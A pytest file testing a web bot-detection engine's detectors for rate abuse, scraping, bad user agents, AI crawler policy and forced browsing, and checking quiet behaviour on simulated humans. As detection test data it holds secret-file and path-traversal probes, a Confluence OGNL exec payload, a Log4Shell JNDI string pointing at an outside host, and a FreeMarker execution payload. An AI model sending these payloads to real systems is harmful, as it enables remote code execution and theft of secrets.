"""Every first-wave detector fires on the behaviour it targets and stays quiet on realistic
human browsing (the simulator's humans: think times, shared IPs, power users, retries)."""

from __future__ import annotations

import random
from ipaddress import ip_network

import pytest

from node.config import EngineConfig, parse_config_text
from node.sim import Scenario, simulate, to_records, truth
from tests.detector_kit import (
    CHROME,
    finding,
    fired,
    fires,
    quiet,
    rec,
    record_firings,
    run,
)

# -- firing on the targeted behaviour ---------------------------------------------------------


@fires("request_rate")
def test_request_rate_fires_on_sustained_fast_client():
    eng = run(rec(i, f"/api/products/{i}", ts=1e9 + i * 0.2) for i in range(300))
    f = finding(eng, "request_rate", "203.0.113.9")
    assert fired(f) and f.value > 2


@fires("request_interval")
def test_request_interval_fires_on_machine_regular_gaps():
    eng = run(rec(i, "/api/cart", ts=1e9 + 0.25 + i * 2.0) for i in range(40))
    f = finding(eng, "request_interval", "203.0.113.9")
    assert fired(f) and f.value < 0.05


def test_request_interval_on_whole_second_timestamps_judges_only_slow_rhythms():
    # An access log: a person clicking within the same second or the next reads as gaps
    # of 0 and 1 -- rounding, not rhythm; a 10 s schedule is still a schedule.
    fast = run(rec(i, "/api/cart", ts=1e9 + i // 2) for i in range(40))
    assert finding(fast, "request_interval", "203.0.113.9") is None
    slow = run(rec(i, "/api/cart", ts=1e9 + 10 * i) for i in range(40))
    assert fired(finding(slow, "request_interval", "203.0.113.9"))


@fires("request_uniqueness")
def test_request_uniqueness_fires_on_catalogue_walk():
    rng = random.Random(1)
    eng = run(rec(i, f"/api/products/{i + 1}", ts=1e9 + i * rng.uniform(1, 9)) for i in range(80))
    f = finding(eng, "request_uniqueness", "203.0.113.9")
    assert fired(f) and f.value >= 0.9


@fires("query_abuse")
def test_query_abuse_fires_when_one_parameter_varies():
    eng = run(rec(i, "/api/search", query=f"q=item{i}&page=1", ts=1e9 + i * 3)
              for i in range(60))
    f = finding(eng, "query_abuse", "203.0.113.9")
    assert fired(f) and f.value > 30


@fires("wide_scope")
def test_wide_scope_fires_on_mapping_the_api():
    eng = run(rec(i, f"/endpoint{i}/list", ts=1e9 + i * 5) for i in range(80))
    f = finding(eng, "wide_scope", "203.0.113.9")
    assert fired(f) and f.value > 30


@fires("bad_user_agent")
@pytest.mark.parametrize("ua", ["sqlmap/1.7.2#stable (https://sqlmap.org)", "python-requests/2.31",
                                "", "Nuclei - Open-source project (github.com/projectdiscovery)"])
def test_bad_user_agent_fires_on_tools_and_missing_agents(ua):
    eng = run(rec(i, "/api/products", ua=ua) for i in range(3))
    assert fired(finding(eng, "bad_user_agent", "203.0.113.9"))


def test_bad_user_agent_abstains_when_the_log_has_no_agent_field():
    # `common` format: the agent is unknown (None), which is no evidence; "" is an empty one.
    eng = run(rec(i, "/api/products", ua=None) for i in range(5))
    assert finding(eng, "bad_user_agent", "203.0.113.9") is None
    eng = run(rec(i, "/api/products", ua="") for i in range(5))
    assert fired(finding(eng, "bad_user_agent", "203.0.113.9"))


@fires("bad_user_agent")
@pytest.mark.parametrize("ua", ["EmailCollector/1.0", "Mozilla/3.0 (compatible; Indy Library)",
                                "TrackBack/1.02", "Guestbook Auto Submitter"])
def test_bad_user_agent_fires_on_fail2ban_spam_bots(ua):
    eng = run(rec(i, "/api/products", ua=ua) for i in range(2))
    f = finding(eng, "bad_user_agent", "203.0.113.9")
    assert fired(f) and f.normal == "not a spam_bot user agent"
    assert fired(finding(eng, "bad_user_agent", "203.0.113.9", "ip"))


CLAUDEBOT = ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; "
             "+claudebot@anthropic.com)")
GPTBOT = ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; "
          "+https://openai.com/gptbot)")
CHATGPT_USER = ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; "
                "ChatGPT-User/1.0; +https://openai.com/bot")


def _crawlers(policy: str) -> EngineConfig:
    return parse_config_text("profiles:\n  - name: p\n    crawlers: {" + policy + "}\n").engine


@fires("bad_user_agent")
@pytest.mark.parametrize("ua", [CLAUDEBOT, GPTBOT])
def test_bad_user_agent_fires_on_a_category_the_profile_blocks(ua):
    eng = run((rec(i, "/api/products", ua=ua) for i in range(2)),
              _crawlers("ai_crawler: block, ai_assistant: allow"))
    for kind in ("session", "ip"):
        f = finding(eng, "bad_user_agent", "203.0.113.9", kind)
        assert fired(f) and f.normal == "no ai_crawler (blocked by the profile)", kind
        assert f.only["scraping"] == 1.0


@pytest.mark.parametrize("config", [None, "ai_crawler: allow", "ai_crawler: monitor",
                                    "ai_assistant: block"])
def test_bad_user_agent_is_no_evidence_for_an_allowed_or_monitored_category(config):
    # Today's default (monitor) lets a declared crawler be: it says who it is, and its
    # behaviour is judged by the other detectors.
    eng = run((rec(i, "/api/products", ua=CLAUDEBOT) for i in range(3)),
              _crawlers(config) if config else None)
    assert finding(eng, "bad_user_agent", "203.0.113.9") is None
    assert finding(eng, "bad_user_agent", "203.0.113.9", "ip") is None


def test_crawler_policy_is_per_category():
    cfg = _crawlers("ai_crawler: allow, ai_assistant: block, search_engine: allow")
    eng = run((rec(i, "/api/products", ua=CHATGPT_USER) for i in range(2)), cfg)
    assert fired(finding(eng, "bad_user_agent", "203.0.113.9"))
    assert dict(cfg.profiles[0].crawlers) == {
        "ai_crawler": "allow", "ai_assistant": "block", "search_engine": "allow"}


@pytest.mark.parametrize("ua", ["okhttp/4.12.0", "Dart/3.2 (dart:io)", CHROME])
def test_bad_user_agent_quiet_on_apps_and_browsers_whatever_the_policy(ua):
    eng = run((rec(i, "/api/products", ua=ua) for i in range(3)),
              _crawlers("ai_crawler: block, ai_assistant: block, search_engine: block"))
    assert finding(eng, "bad_user_agent", "203.0.113.9") is None


@fires("outdated_browser")
def test_outdated_browser_fires_on_years_old_chrome():
    old = CHROME.replace("Chrome/142.0.0.0", "Chrome/70.0.3538.77")
    eng = run(rec(i, "/api/products", ua=old) for i in range(3))
    f = finding(eng, "outdated_browser", "203.0.113.9")
    assert fired(f) and f.value == 70


def test_outdated_browser_fires_on_a_forged_version():
    forged = "Mozilla/5.0 (compatible; MSIE 66.0; 68K; Trident/49.0)"   # IE stopped at 11
    eng = run(rec(i, "/api/products", ua=forged) for i in range(3))
    f = finding(eng, "outdated_browser", "203.0.113.9")
    assert fired(f) and f.value == 66 and f.normal == "<= 11 (last release)"


@fires("forced_browsing")
def test_forced_browsing_fires_on_probes_with_a_browser_agent():
    probes = ["/.env", "/.git/config", "/wp-config.php.bak", "/phpmyadmin/", "/../../etc/passwd"]
    eng = run(rec(i, p, status=404) for i, p in enumerate(probes))
    f = finding(eng, "forced_browsing", "203.0.113.9")
    assert fired(f) and f.strength == 1.0


def test_forced_browsing_fires_on_one_exploit_payload_wherever_it_rides():
    # Confluence OGNL in the path, Log4Shell in the Referer, FreeMarker behind an encoded "/".
    ognl = ("/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang."
            "Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/")
    cases = [rec(0, ognl, ip="198.51.100.1", status=404),
             rec(0, "/", ip="198.51.100.2", referer="${jndi:ldap://203.0.113.250/a}"),
             rec(0, "%2Fcatalog-portal%2Fui%2Foauth%2Fverify%3Ferror%3D%26deviceUdid%3D%24%7B"
                    "%22freemarker.template.utility.Execute%22%3Fnew%28%29%28%22id%22%29%7D",
                 ip="198.51.100.3")]
    eng = run(cases)
    for ip in ("198.51.100.1", "198.51.100.2", "198.51.100.3"):
        f = finding(eng, "forced_browsing", ip)
        assert fired(f) and f.strength == 1.0, ip


def test_forced_browsing_ignores_braces_in_an_ordinary_referer():
    ref = "https://shop.example/search?f=%7B%22color%22%3A%22red%22%7D"
    eng = run(rec(i, f"/api/products/{i}", referer=ref) for i in range(12))
    assert not fired(finding(eng, "forced_browsing", "203.0.113.9"))


def test_forced_browsing_fires_on_a_wall_of_404s():
    eng = run(rec(i, f"/{random.Random(i).randrange(10**6):06d}x", status=404) for i in range(40))
    assert fired(finding(eng, "forced_browsing", "203.0.113.9"))


@fires("business_logic")
def test_business_logic_fires_on_hammering_checkout():
    eng = run(rec(i, "/api/checkout", method="POST", status=201, ts=1e9 + i * 7)
              for i in range(40))
    f = finding(eng, "business_logic", "203.0.113.9")
    assert fired(f) and f.value > 15


@fires("response_time_anomaly")
def test_response_time_anomaly_fires_after_warm_up():
    rng = random.Random(2)
    normal = [rec(i, "/api/search", query=f"q=w{i % 50}", ip=f"198.18.{i % 200}.{i % 7 + 1}",
                  ts=1e9 + i * 0.5, duration_ms=rng.uniform(8, 20)) for i in range(3000)]
    slow = [rec(10_000 + i, "/api/search", query=f"q={'%25' * 40}{i}", ts=1e9 + 1600 + i * 4,
                duration_ms=rng.uniform(600, 900)) for i in range(30)]
    eng = run(normal + slow, EngineConfig(warmup_requests=1000))
    f = finding(eng, "response_time_anomaly", "203.0.113.9")
    assert fired(f) and f.value >= 5


@fires("excessive_request_consumption")
def test_excessive_request_consumption_fires_on_upload_flood():
    eng = run(rec(i, "/api/upload", method="POST", req_bytes=1_500_000, ts=1e9 + i * 20)
              for i in range(30))
    assert fired(finding(eng, "excessive_request_consumption", "203.0.113.9"))


@fires("excessive_response_consumption")
def test_excessive_response_consumption_fires_on_repeated_exports():
    eng = run(rec(i, "/api/export", query="format=csv", resp_bytes=900_000, ts=1e9 + i * 20)
              for i in range(30))
    assert fired(finding(eng, "excessive_response_consumption", "203.0.113.9"))


@fires("session_rotation")
def test_session_rotation_fires_on_one_ip_cycling_user_agents():
    eng = run(rec(i, "/", ua=f"Mozilla/5.0 (X11; Linux) Firefox/{100 + i}.0", ts=1e9 + i)
              for i in range(30))
    assert fired(finding(eng, "session_rotation", "203.0.113.9", kind="ip"))


# -- quiet on human traffic ---------------------------------------------------------------------

HUMAN_FIRE_LIMIT = 0.02   # a detector may fire on at most 2 % of human actors


@pytest.fixture(scope="module")
def human_firings():
    from node.engine import Engine

    sc = Scenario.humans_only(scale=0.5, seed=3, duration=3600.0)
    # The partner integration (a steady API client) is what operators put on the exception
    # list (SPEC §6); everything else here is people.
    partners = [ip for a in truth(sc)["actors"].values() if a["family"] == "partner"
                for ip in a["ips"]]
    eng = Engine(EngineConfig(exceptions=tuple(ip_network(ip) for ip in partners)))
    seen = record_firings(eng)
    decisions = []
    for r in to_records(simulate(sc), seed=3):
        decisions.extend(eng.process(r))
    return seen, decisions


FIRST_WAVE = ["request_rate", "request_interval", "request_uniqueness", "query_abuse",
              "wide_scope", "bad_user_agent", "outdated_browser", "forced_browsing",
              "business_logic", "response_time_anomaly", "excessive_request_consumption",
              "excessive_response_consumption", "session_rotation"]


@pytest.mark.parametrize("name", FIRST_WAVE)
def test_detector_quiet_on_human_browsing(human_firings, name):
    quiet(name)(lambda: None)
    seen, _ = human_firings
    sessions = [v for (kind, _), v in seen.items() if kind == "session"]
    assert len(sessions) > 100
    rate = sum(name in v for v in sessions) / len(sessions)
    assert rate <= HUMAN_FIRE_LIMIT, f"{name} fired on {rate:.1%} of human sessions"


def test_no_human_blocked_at_ip_level(human_firings):
    _, decisions = human_firings
    blocking = [d for d in decisions if d.reaction in ("denylist", "graylist")]
    assert not blocking, [(d.ip, d.bot_type, d.detectors) for d in blocking[:5]]


for _name in FIRST_WAVE:   # registered at import: the coverage test reads these marks
    quiet(_name)(lambda: None)
